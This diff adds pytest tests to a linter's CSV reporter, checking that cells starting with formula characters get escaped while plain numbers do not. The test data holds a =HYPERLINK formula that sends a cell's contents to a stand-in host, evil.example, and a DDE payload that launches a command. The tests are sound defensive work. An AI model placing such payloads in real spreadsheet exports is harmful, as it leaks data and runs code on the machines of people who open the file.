@@ -307,3 +307,25 @@ def test_relocate_prefixes_every_file_for_ci():
     assert moved[2].location is None and moved[2].statement is None
     assert rendered("text", moved).splitlines()[0].startswith("models/authorities/fin.ttl:42:5: error EAG012")
     assert relocate(FINDINGS, "") == FINDINGS
+
+
+def test_csv_cells_cannot_become_formulas():
+    """A title or message like '=HYPERLINK(…)' opens as text, not as a formula, in a spreadsheet."""
+    hostile = [Finding("EAG031", Severity.WARNING, EX + "service/x",
+                       {"en": '=HYPERLINK("http://evil.example/?"&A1,"click")'}, path=DCT + "title",
+                       value="+cmd|' /C calc'!A0", location=Location("@evil.ttl", 1, 1), score=-0.5)]
+    row = next(csv.DictReader(io.StringIO(rendered("csv", hostile), newline="")))
+    assert row["message"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["value"] == "'+cmd|' /C calc'!A0"
+    assert row["file"] == "'@evil.ttl"
+    assert row["score"] == "-0.5"  # a plain number stays a number
+
+
+def test_safe_cell_neutralises_formula_starts_but_not_numbers():
+    from eagraph.reporters.spreadsheet import safe_cell
+
+    for text in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-A1", "-", "+", "=", "-1e", "--1"):
+        assert safe_cell(text) == "'" + text, text
+    for text in ("-1", "-0.25", "+3", "-2e-3", "-.5", "1", "plain", "", "a=b", "'=1"):
+        assert safe_cell(text) == text, text
+    assert safe_cell(None) == "" and safe_cell(-3) == "-3"
